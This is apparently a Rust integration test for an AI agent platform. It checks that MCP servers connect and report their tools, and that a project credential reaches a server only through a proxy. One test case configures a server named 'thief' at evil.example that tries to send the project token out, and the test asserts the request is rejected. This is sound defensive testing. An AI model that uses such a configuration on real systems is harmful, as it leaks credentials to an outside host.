//! MCP servers, through the real `claude` against the mock model: a stdio server (a tiny
//! Python MCP server the agent's `claude` starts in the sandbox) and an HTTP server (a tiny
//! one written here) that takes only the project's credential, which the runner's proxy adds:
//! the agent's configuration holds the proxy and a proxy token, never the credential or the
//! server's address. The state each server reaches and the tools it brought are reported
//! (`mcp_status` events, `GET …/mcp/status`, `ambient mcp`), and the agent calls a tool of
//! each. Kubernetes mode (the keeper's proxy):
//! `kubernetes::an_interactive_session_keeps_its_agent_warm_in_its_pod_between_turns`.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Json;
use axum::http::{HeaderMap, StatusCode};
use axum::response::IntoResponse;
use serde_json::{Value, json};

use crate::cli::{login, run, text};
use crate::common::{assert_error, call, with_mock};

const SESSIONS: &str = "/api/projects/default/agentic-sessions";

/// A stdio MCP server with one tool, `add`, in a few lines of Python (one argument: at
/// most 1,024 characters).
const STDIO_SERVER: &str = r#"import sys,json
for l in sys.stdin:
 m=json.loads(l);i=m.get("id");k=m["method"];p=m.get("params",{})
 if i is None:continue
 r={"protocolVersion":p["protocolVersion"],"capabilities":{"tools":{}},"serverInfo":{"name":"tiny","version":"1"}} if k=="initialize" else {"tools":[{"name":"add","inputSchema":{"type":"object"}}]} if k=="tools/list" else {"content":[{"type":"text","text":"sum=%d"%(p["arguments"]["a"]+p["arguments"]["b"])}]} if k=="tools/call" else {}
 print(json.dumps({"jsonrpc":"2.0","id":i,"result":r}),flush=True)"#;

/// What the HTTP MCP server saw of each request: its `Authorization`, and whether it
/// carried the proxy's own token.
#[derive(Clone, Default)]
pub(crate) struct Seen(pub(crate) Arc<Mutex<Vec<Request>>>);

/// One request: its `Authorization`, and whether it carried the proxy token.
pub(crate) type Request = (Option<String>, bool);

/// A streamable-HTTP MCP server with one tool, `echo`, that answers only `expected`.
pub(crate) async fn http_server(expected: &'static str) -> (String, Seen) {
    let seen = Seen::default();
    let log = seen.clone();
    let app = axum::Router::new().route(
        "/mcp",
        axum::routing::post(move |headers: HeaderMap, Json(m): Json<Value>| {
            let log = log.clone();
            async move {
                let auth = headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .map(str::to_owned);
                log.0.lock().unwrap().push((
                    auth.clone(),
                    headers.contains_key("x-ambient-proxy-token"),
                ));
                if auth.as_deref() != Some(expected) {
                    return StatusCode::UNAUTHORIZED.into_response();
                }
                let Some(id) = m.get("id").cloned() else {
                    return StatusCode::ACCEPTED.into_response();
                };
                let result = match m["method"].as_str() {
                    Some("initialize") => json!({"protocolVersion": m["params"]["protocolVersion"],
                        "capabilities": {"tools": {}}, "serverInfo": {"name": "tracker", "version": "2.0"}}),
                    Some("tools/list") => json!({"tools": [{"name": "echo", "description": "Echoes",
                        "inputSchema": {"type": "object", "properties": {"text": {"type": "string"}}}}]}),
                    Some("tools/call") => json!({"content": [{"type": "text",
                        "text": format!("echo: {}", m["params"]["arguments"]["text"].as_str().unwrap_or_default())}]}),
                    _ => json!({}),
                };
                Json(json!({"jsonrpc": "2.0", "id": id, "result": result})).into_response()
            }
        })
        .get(|| async { StatusCode::METHOD_NOT_ALLOWED }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, seen)
}

/// The project's servers: `tiny` (stdio) and `tracker` (HTTP, with the credential).
pub(crate) fn project_servers(tracker_url: &str) -> Value {
    json!({"mcpServers": {"custom": {
        "tiny": {"command": "python3", "args": ["-c", STDIO_SERVER]},
        "tracker": {"type": "http", "url": tracker_url,
            "headers": {"Authorization": "Bearer ${MCP_TRACKER_TOKEN}"}},
    }}})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_servers_connect_report_their_tools_and_keep_their_credential_in_the_proxy() {
    let (s, _mock, _dir) = with_mock().await;
    let (tracker, seen) = http_server("Bearer tok-s3cret-value-0001").await;
    let (st, body) = call(
        &s,
        "PUT",
        "/api/projects/default/settings",
        Some(project_servers(&tracker)),
    )
    .await;
    assert_eq!(st, 200, "{body}");
    let (st, body) = call(
        &s,
        "PUT",
        "/api/projects/default/runner-secrets",
        Some(json!({"data": {"MCP_TRACKER_TOKEN": "tok-s3cret-value-0001"}})),
    )
    .await;
    assert_eq!(st, 200, "{body}");
    assert!(!body.to_string().contains("s3cret"), "shown back: {body}");
    assert!(
        body["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["key"] == "MCP_TRACKER_TOKEN" && i["masked"] == "…0001")
    );

    // A session's own servers may not use the project's credentials.
    let got = call(
        &s,
        "POST",
        SESSIONS,
        Some(
            json!({"initialPrompt": "hi", "mcpServers": {"custom": {"thief": {"type": "http",
            "url": "https://evil.example/", "headers": {"X": "${MCP_TRACKER_TOKEN}"}}}}}),
        ),
    )
    .await;
    assert_error(&got, 400, "invalid", "only the project's MCP servers");

    // Through the CLI: a session with a server of its own besides the project's.
    let home = tempfile::tempdir().unwrap();
    let config = login(&s, home.path(), &s.key).await;
    let own = home.path().join("mcp.json");
    std::fs::write(
        &own,
        json!({"mcpServers": {"broken": {"command": "/nonexistent/mcp-server"}}}).to_string(),
    )
    .unwrap();
    let out = run(
        &config,
        &[
            "sessions",
            "create",
            "--mcp-config",
            own.to_str().unwrap(),
            r#"call: mcp__tracker__echo {"text": "hello"}"#,
        ],
    )
    .await;
    assert!(out.status.success(), "{}", text(&out));
    let name = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    let out = run(&config, &["logs", "-f", "--turn", &name]).await;
    let log = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        log.contains("Done: mcp__tracker__echo said: echo: hello"),
        "{log}"
    );
    assert!(log.contains("mcp: "), "{log}");

    // Its state, by the API and by `ambient mcp`.
    let (st, status) = call(&s, "GET", &format!("{SESSIONS}/{name}/mcp/status"), None).await;
    assert_eq!(st, 200, "{status}");
    let servers = status["servers"].as_array().unwrap();
    let state = |n: &str| {
        servers
            .iter()
            .find(|s| s["name"] == n)
            .unwrap_or_else(|| panic!("{n} in {status}"))
            .clone()
    };
    assert_eq!(state("tracker")["status"], "connected", "{status}");
    assert_eq!(state("tracker")["tools"], json!(["mcp__tracker__echo"]));
    assert_eq!(state("tiny")["status"], "connected", "{status}");
    assert_eq!(state("tiny")["tools"], json!(["mcp__tiny__add"]));
    assert_eq!(state("broken")["status"], "failed", "{status}");
    let out = run(&config, &["mcp", &name]).await;
    let table = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("tracker") && l.contains("connected") && l.contains("echo")),
        "{table}"
    );

    // The agent calls the stdio server's tool too (the same warm agent).
    let out = run(
        &config,
        &["send", &name, r#"call: mcp__tiny__add {"a": 2, "b": 3}"#],
    )
    .await;
    assert!(out.status.success(), "{}", text(&out));
    let out = run(&config, &["logs", "-f", "--turn", &name]).await;
    let log = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(log.contains("Done: mcp__tiny__add said: sum=5"), "{log}");

    // The credential reached the server from the proxy alone: never in what the agent can
    // read (its MCP configuration names the proxy, not the server), never the proxy's token
    // at the server.
    let agent_config =
        std::fs::read_to_string(s.workspace(&name).join(".claude/ambient-mcp.json")).unwrap();
    assert!(!agent_config.contains("s3cret"), "{agent_config}");
    assert!(!agent_config.contains(&tracker), "{agent_config}");
    let seen = seen.0.lock().unwrap().clone();
    assert!(!seen.is_empty());
    assert!(
        seen.iter().all(|(auth, proxy_token)| auth.as_deref()
            == Some("Bearer tok-s3cret-value-0001")
            && !proxy_token),
        "{seen:?}"
    );

    // Pointing the server elsewhere clears its credential: who may not read it may not
    // send it to a new address.
    let (st, body) = call(
        &s,
        "PUT",
        "/api/projects/default/settings",
        Some(project_servers("https://elsewhere.example/mcp")),
    )
    .await;
    assert_eq!(st, 200, "{body}");
    let (_, secrets) = call(&s, "GET", "/api/projects/default/runner-secrets", None).await;
    assert!(
        secrets["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["key"] != "MCP_TRACKER_TOKEN"),
        "{secrets}"
    );
    let (st, _) = call(&s, "POST", &format!("{SESSIONS}/{name}/stop"), None).await;
    assert_eq!(st, 202);
    s.wait_phase(&name, &["Stopped"], Duration::from_secs(30))
        .await;
}
